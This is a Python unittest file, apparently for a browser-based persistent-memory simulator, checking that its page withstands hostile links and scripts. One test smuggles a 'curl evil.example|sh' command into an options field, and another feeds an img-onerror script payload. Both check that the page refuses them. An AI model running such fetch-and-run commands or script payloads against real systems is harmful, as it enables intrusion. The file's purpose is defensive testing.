        self.assertEqual(page.run("return pmem.model.replies.flatMap(({marks, answer}) => [...marks, answer])"), text.split("\n")[:-1])
        self.assertIn(f"--key {key}", page.text("#shell"))

    def test_no_shell_command_from_a_link(self) -> None:
        page = self.open("#machine=run&options=--suite_aes;curl%20evil.example%7Csh%20%23&trace=stat")
        self.assertEqual(page.text("#shell"), "./pmem run < trace (status 0)")
        self.assertTrue(page.text("#notice"))

    def test_heaviest_trace_of_a_link(self) -> None:
        posts = "~".join(f"post_{at % 8}_{64 * at}_11x64" for at in range(64))
        drains = "~".join(f"fence_{port}" for port in range(8))
        cycle = f"{posts}~{drains}~off~on~"
        began = time.monotonic()
        moment = "#machine=run&options=--levels_3_--sets_64_--ways_8_--loss_16&trace=" + cycle * 26 + "stat&at=73.0"
        self.shown.open(browser.address_of(str(PAGE)) + moment)
        self.shown.click("#next")
        self.assertGreater(self.shown.run("return pmem.model.commands.length"), 0)
        self.assertLess(time.monotonic() - began, 240)

    def test_slow_trace_is_refused(self) -> None:
        page = self.open("#lesson=01")
        given = self.lines()
        page.run("pmem.program.engine.most = 1")
        self.use("".join(f"post 0 {64 * at} {LINE['11']}\ndrain 0\noff\non\n" for at in range(16)) * 20)
        self.assertIn("takes too long for the page", page.text("#notice"))
        self.assertEqual(self.lines(), given)
        self.assertTrue(page.run("return document.querySelector('#editing').checkVisibility()"))

    def test_nothing_of_a_link_becomes_markup(self) -> None:
        bad = "%3Cimg%20src=x%20onerror=%22window.ran=1%22%3E"
        for moment in (f"#machine=run&trace={bad}", f"#machine={bad}&trace=stat", f"#lesson={bad}", f"#machine=run&trace=%23{bad}&line={bad}",
                       f"#machine=run&options={bad}&trace=stat"):
            page = self.open(moment)
            self.assertEqual(page.run("return [window.ran ?? 0, document.querySelectorAll('img').length]"), [0, 0])

    def test_policy_allows_no_other_script(self) -> None:
        page = self.open("#lesson=01")
        page.run("const it = document.createElement('script'); it.textContent = 'window.ran = 1'; document.body.append(it);"
                 "const box = document.createElement('div'); box.innerHTML = '<p onclick=\"window.ran = 2\">x</p>'; box.firstChild.click()")
        self.assertEqual(page.run("return window.ran ?? 0"), 0)
        found = page.errors()
        self.assertTrue(found and all("Content Security Policy" in it for it in found), found)

    def test_program_is_stopped_in_its_time(self) -> None:
        page = self.open("#lesson=01")
        took: Any = page.run("const text = `post 0 0 ${'11'.repeat(64)}\\ndrain 0\\noff\\non\\n`.repeat(900);"
                             "const {engine} = pmem.program; const was = engine.most; engine.most = 5;"
                             "const began = performance.now(); let fault = null;"
                             "try { engine.answer(['run', '--levels', '3'], text); } catch (it) { fault = it.constructor.name; }"
                             "engine.most = was; return [performance.now() - began, fault, engine.answer(['run'], 'stat\\n').text]")
        self.assertEqual(took[1:], ["TookTooLong", "stat 0 0 0 0 0\n"])
        self.assertLess(took[0], 5000)


class ReferenceTest(unittest.TestCase):
    """The table of commands and replies, compared with the pages in docs/."""

    def test_commands_are_those_of_the_pages(self) -> None:
        table = json.loads((TOP / "page" / "src" / "reference.json").read_text(encoding="utf-8"))
        text = "\n".join(path.read_text(encoding="utf-8") for path in (TOP / "docs").glob("*.md"))
        told = {re.sub(r"[<>]", "", form) for form in re.findall(r"`([a-z][^`\n]*)`", text)}
        shapes = {" ".join(form.split(" ")[:1]) for form in told}
        for row in table["commands"]:
            with self.subTest(row["form"]):
                self.assertIn(row["form"].split(" ")[0], shapes)
        run = {form for form in re.findall(r"(?m)^\| `([a-z][^`]*)`", text) if "<" in form}
        known = {row["form"] for row in table["commands"] if "run" in row["machines"].split(" ")}
        for form in (form for form in run if form.split(" ")[0] in {it.split(" ")[0] for it in known}):
            with self.subTest(form):
                self.assertIn(form, known)


if __name__ == "__main__":
    unittest.main()
